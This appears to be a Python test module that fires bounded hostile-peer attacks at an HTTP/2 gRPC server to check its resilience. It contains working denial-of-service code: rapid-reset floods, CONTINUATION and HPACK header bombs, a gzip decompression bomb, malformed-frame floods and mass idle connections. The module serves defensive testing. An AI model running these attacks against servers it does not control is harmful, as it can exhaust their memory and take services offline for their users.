"""What hostile peers do, each bounded in count and time. ``python -m tests.hostile.attacks NAME HOST:PORT``.

A process of its own, so that it does not slow the caller that is measured. It says `begun` once it is connected.
"""

import os
import select
import socket
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from tests.hostile.peer import REQUEST, Headers, Peer, changed
from tests.support.files import allow_files

SECONDS = 2.0
MOST_SECONDS = 20.0
RESETS = 100_000
IDLE = 1_100

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
FRAME_LIMIT = 16_384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(headers: Headers) -> bytes:
    """The header block with every field as a literal that is never indexed; names and values below 127 bytes."""
    return b"".join(b"\x10" + bytes([len(key)]) + key + bytes([len(value)]) + value for key, value in headers)


def bomb(size: int) -> bytes:
    """A gRPC message that says it is compressed, and inflates to `size` zeros."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    packed = b"".join(deflate.compress(chunk) for _ in range(size >> 20)) + deflate.flush()
    return b"\1" + len(packed).to_bytes(4, "big") + packed


_ASKING = block(REQUEST)

# Each is what HTTP/2 calls a connection error (RFC 9113), sent after a good preface.
BROKEN = {
    "data on stream 0": frame(DATA, 0, 0, b"abc"),
    "data on an idle stream": frame(DATA, 0, 1, b"abc"),
    "headers on stream 0": frame(HEADERS, END_HEADERS, 0, _ASKING),
    "headers on a server's stream": frame(HEADERS, END_HEADERS, 2, _ASKING),
    "headers padded beyond their end": frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff" + _ASKING[:8]),
    "headers that are no HPACK": frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"),
    "a table index out of range": frame(HEADERS, END_HEADERS, 1, b"\xbf\xbf"),
    "a continuation of nothing": frame(CONTINUATION, END_HEADERS, 1, _ASKING),
    "another frame amid headers": frame(HEADERS, 0, 1, _ASKING) + frame(PING, 0, 0, bytes(8)),
    "settings of five bytes": frame(SETTINGS, 0, 0, bytes(5)),
    "settings on a stream": frame(SETTINGS, 0, 1, bytes(6)),
    "a window setting beyond 2^31": frame(SETTINGS, 0, 0, b"\0\4\xff\xff\xff\xff"),
    "a ping of seven bytes": frame(PING, 0, 0, bytes(7)),
    "a window update of three bytes": frame(WINDOW_UPDATE, 0, 0, bytes(3)),
    "window updates beyond 2^31": frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2,
    "a reset of an idle stream": frame(RST_STREAM, 0, 1, bytes(4)),
    "a push promise from a client": frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + _ASKING),
    "a frame beyond the size limit": frame(DATA, 0, 1, bytes(1 << 20)),
}


def garbage(target: str) -> None:
    """Bytes that are no HTTP/2."""
    host, _, port = target.rpartition(":")
    for _ in _while(SECONDS):
        with socket.create_connection((host, int(port))) as connection, suppress(OSError):
            connection.sendall(os.urandom(4096))


def broken_frames(target: str) -> None:
    for _ in _while(SECONDS):
        for broken in BROKEN.values():
            with Peer(target) as peer:
                peer.send(broken)


def truncated_frames(target: str) -> None:
    """Connections that end in the middle of a frame."""
    whole = frame(HEADERS, END_HEADERS, 1, _ASKING)
    for _ in _while(SECONDS):
        for length in range(1, len(whole), 7):
            with Peer(target) as peer:
                peer.send(whole[:length])


def endless_headers(target: str) -> None:
    """Headers that go on and on in CONTINUATION frames, from a peer that has acknowledged how large they may be."""
    for _ in _while(SECONDS):
        with Peer(target) as peer:
            peer.ask()
            _send_endless_headers(peer, stream=3)


def unbound_headers(target: str) -> None:
    """The same, from a peer that does not acknowledge: until then, its headers may be as large as gRPC's core bears.

    That is 16 MB a connection, for which it takes 70 MB (grpcio 1.85); no setting makes it less. Two connections, then:
    a service that strangers can reach needs an Envoy in front.
    """
    for _ in range(2):
        with Peer(target) as peer:
            _send_endless_headers(peer, stream=1)


def _send_endless_headers(peer: Peer, stream: int) -> None:
    """16 MB of them, or fewer where the other side closes."""
    more = frame(CONTINUATION, 0, stream, block([(b"x-%d" % index, b"v" * 100) for index in range(140)]))
    peer.send(frame(HEADERS, 0, stream, _ASKING))
    for _ in range(1000):
        if not (peer.send(more) and peer.drain()):
            break


def large_header_lists(target: str) -> None:
    """Requests with a megabyte of headers."""
    headers = [*REQUEST, *[(b"x-%d" % index, b"v" * 10_000) for index in range(100)]]
    for _ in _while(SECONDS):
        with Peer(target) as peer:
            peer.ask(headers)


def header_bombs(target: str) -> None:
    """Headers that name one entry of the compression table thousands of times: small when sent, large when read."""
    entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000  # x: a value of 4000 bytes, put into the table
    bombs = frame(HEADERS, END_HEADERS | END_STREAM, 1, _ASKING + entry + b"\xbe" * 12_000)
    for _ in _while(SECONDS):
        with Peer(target) as peer:
            peer.send(bombs)
            peer.ending(1)


def rapid_resets(target: str) -> None:
    """100,000 requests, each taken back at once."""
    left, give_up = RESETS, time.monotonic() + MOST_SECONDS
    while left > 0 and time.monotonic() < give_up:
        with Peer(target) as peer:
            for first in range(1, 2 * left, 1000):
                if not (peer.send(_resets(first, 500)) and peer.drain()) or time.monotonic() > give_up:
                    break
                left -= 500


def _resets(first: int, count: int) -> bytes:
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, _ASKING) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        for stream in range(first, first + 2 * count, 2)
    )


def small_frames(target: str) -> None:
    """Pings, settings and empty data: each costs its sender nothing."""
    request = frame(HEADERS, END_HEADERS, 1, _ASKING)
    flood = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0) + frame(DATA, 0, 1)) * 500
    for _ in _while(SECONDS):
        with Peer(target) as peer:
            peer.send(request)
            for _ in range(100):
                if not (peer.send(flood) and peer.drain()):
                    break


def compressed_bombs(target: str) -> None:
    """Messages of 256 KB that inflate to 256 MB."""
    packed = bomb(256 << 20)
    headers = changed(grpc_encoding=b"gzip")
    for _ in _while(SECONDS):
        with Peer(target) as peer:
            peer.ask(headers, packed)


def idle_connections(target: str) -> None:
    """Connections that never say anything, and ones that stop after the preface or amid their headers."""
    allow_files(IDLE)
    host, _, port = target.rpartition(":")
    with ExitStack() as stack:
        for index in range(IDLE):
            if index % 3 == 0:
                stack.enter_context(socket.create_connection((host, int(port))))
                continue
            peer = stack.enter_context(Peer(target))
            if index % 3 == 1:
                peer.send(frame(HEADERS, 0, 1, _ASKING))
        for _ in _while(SECONDS):
            select.select([], [], [], SECONDS)


ATTACKS: dict[str, Callable[[str], None]] = {
    attack.__name__: attack
    for attack in (
        garbage,
        broken_frames,
        truncated_frames,
        large_header_lists,
        header_bombs,
        rapid_resets,
        small_frames,
        compressed_bombs,
        idle_connections,
        endless_headers,
        unbound_headers,  # last: the memory that it took stays with the process
    )
}


def _while(seconds: float) -> Iterator[None]:
    """Turns until the time is over, one at least."""
    end = time.monotonic() + seconds
    yield
    while time.monotonic() < end:
        yield


def main(name: str, target: str) -> None:
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    ATTACKS[name](target)


if __name__ == "__main__":
    main(*sys.argv[1:])
